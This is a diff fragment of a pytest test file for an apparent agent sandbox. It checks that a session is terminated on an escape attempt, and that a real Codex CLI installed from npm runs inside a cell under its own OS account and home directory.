+            sup.kill()
+            sup.wait()
+    summary = json.loads(out.strip().splitlines()[-1])
+    assert sup.returncode == 120 and summary["status"] == "terminated", summary
+    assert summary["escape"]["operation"] == "telemetry" and "after 3 reconnects" in summary["reason"], summary
+    assert account_gone(summary["os_user"]) and summary["problems"] == [] and cell_cgroups(summary["cell_id"]) == []
+
+
+@pytest.fixture(scope="module")
+def codex() -> Iterator[str]:
+    """The real Codex CLI from the npm registry, installed under /opt (which cells see read-only) and
+    removed after."""
+    if shutil.which("npm") is None:
+        pytest.skip("npm is not installed")
+    prefix = Path("/opt") / ("agentcell-harness-" + secrets.token_hex(3))
+    try:
+        p = subprocess.run(["npm", "install", "--prefix", str(prefix), "--no-audit", "--no-fund", "--loglevel=error",
+                            "@openai/codex"], capture_output=True, text=True, timeout=600)
+        assert p.returncode == 0, p.stderr[-2000:]
+        yield str(prefix / "node_modules" / ".bin" / "codex")
+    finally:
+        shutil.rmtree(prefix, ignore_errors=True)
+
+
+def test_a_real_harness_cli_runs_in_a_session_as_its_account_with_the_cells_home(env: Env, codex: str) -> None:
+    s = session(env, ["start", "--rw", "src", "--json", "--", "sh", "-c",
+                      f'id -un; echo "HOME=$HOME"; {codex} --version; {codex} exec --help | head -1'])
+    assert s.rc == 0 and s.summary["status"] == "completed", (s.out, s.err)
+    name = s.summary["os_user"]
+    assert s.out.splitlines()[:2] == [name, f"HOME=/home/{name}"], s.out
+    assert s.out.splitlines()[2].startswith("codex-cli ") and "Run Codex non-interactively" in s.out, s.out
